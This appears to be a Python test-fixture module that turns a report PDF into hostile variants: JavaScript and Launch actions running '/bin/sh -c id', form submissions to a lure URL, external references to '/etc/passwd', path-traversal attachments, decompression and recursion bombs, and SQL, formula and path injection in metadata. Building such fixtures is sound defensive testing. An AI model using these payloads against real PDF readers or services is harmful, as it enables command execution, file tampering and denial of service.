"""Documents made to hurt whoever opens them: actions, attachments, bombs, depths.

In: a PDF that is a report, and an address to lure the reader to. Out: named hostile variants of it.
"""

import io
from collections.abc import Callable
from typing import Final

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String

Change = Callable[[Pdf, str], None]


def hostile(source: bytes, name: str, lure: str) -> bytes:
    """The report with one hostile thing in it; `lure` is a URL that must never be asked for."""
    target = io.BytesIO()
    with Pdf.open(io.BytesIO(source)) as pdf:
        CHANGES[name](pdf, lure)
        pdf.save(target, compress_streams=True)
    return target.getvalue()


def deep_arrays(depth: int = 100_000) -> bytes:
    """A PDF whose one object is an array in an array in an array …"""
    nested = b"[" * depth + b"]" * depth
    return b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/X " + nested + b">>\nendobj\n" + (
        b"2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n"
    )  # fmt: skip


def _actions(pdf: Pdf, lure: str) -> None:
    script = f"app.launchURL('{lure}'); this.exportDataObject({{cName: 'x', nLaunch: 2}});"
    pdf.Root.OpenAction = Dictionary(
        S=Name.JavaScript, JS=String(script), Next=Dictionary(S=Name.URI, URI=String(lure))
    )
    launch = Dictionary(S=Name.Launch, F=Dictionary(Type=Name.Filespec, F=String("/bin/sh"), P=String("-c id")))
    pdf.pages[0].obj.AA = Dictionary(
        O=launch, C=Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String(lure)))
    )
    link = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 600, 900]), A=Dictionary(S=Name.URI, URI=String(lure))
    )
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array([pdf.make_indirect(link)]))


def _external_stream(pdf: Pdf, lure: str) -> None:
    """A page whose content, and a form whose content, are said to be at another address or in another file."""
    stream = pdf.make_stream(b"BT ET")
    stream.F = Dictionary(Type=Name.Filespec, FS=Name.URL, F=String(lure))
    form = pdf.make_stream(b"q Q", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
    form.F = String("/etc/passwd")
    form.Ref = Dictionary(F=String(lure), Page=0)
    page = pdf.pages[0]
    page.contents_add(stream)
    if "/Resources" not in page.obj:
        page.obj.Resources = Dictionary()
    page.obj.Resources.XObject = Dictionary(Fm0=form)
    page.contents_add(pdf.make_stream(b"/Fm0 Do"))


def _attachments(pdf: Pdf, _: str) -> None:
    for name in ("../../../../tmp/juesuan-was-here.txt", "C:\\Windows\\evil.exe", "/etc/cron.d/evil"):
        pdf.attachments[name] = pikepdf.AttachedFileSpec(pdf, b"#!/bin/sh\necho hurt\n", filename=name)


def _huge_image(pdf: Pdf, _: str) -> None:
    """Sixty thousand points square in a hundred bytes, drawn over the whole page."""
    image = pdf.make_stream(
        bytes(64), Type=Name.XObject, Subtype=Name.Image, Width=60_000, Height=60_000, BitsPerComponent=8,
        ColorSpace=Name.DeviceRGB,
    )  # fmt: skip
    page = pdf.pages[0]
    page.obj.Resources.XObject = Dictionary(Im0=image)
    page.contents_add(pdf.make_stream(b"q 600 0 0 900 0 0 cm /Im0 Do Q"))


def _bomb(pdf: Pdf, _: str) -> None:
    """A content stream that unpacks to 120 MB of nothing."""
    pdf.pages[0].contents_add(pdf.make_stream(b"0 0 m\n" * (20 << 20)))


def _form_in_itself(pdf: Pdf, _: str) -> None:
    form = pdf.make_stream(b"/Fm0 Do /Fm0 Do", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
    form.Resources = Dictionary(XObject=Dictionary(Fm0=form))
    page = pdf.pages[0]
    page.obj.Resources.XObject = Dictionary(Fm0=form)
    page.contents_add(pdf.make_stream(b"/Fm0 Do"))


def _words(pdf: Pdf, _: str) -> None:
    """Metadata that would like to be SQL, a formula, markup or a path."""
    pdf.docinfo["/Title"] = "'); drop table core.report; --"
    pdf.docinfo["/Author"] = '=HYPERLINK("http://example.invalid")'
    pdf.docinfo["/Subject"] = "../../etc/passwd [red]"


CHANGES: Final[dict[str, Change]] = {
    "actions": _actions,
    "external_stream": _external_stream,
    "attachments": _attachments,
    "huge_image": _huge_image,
    "bomb": _bomb,
    "form_in_itself": _form_in_itself,
    "words": _words,
}
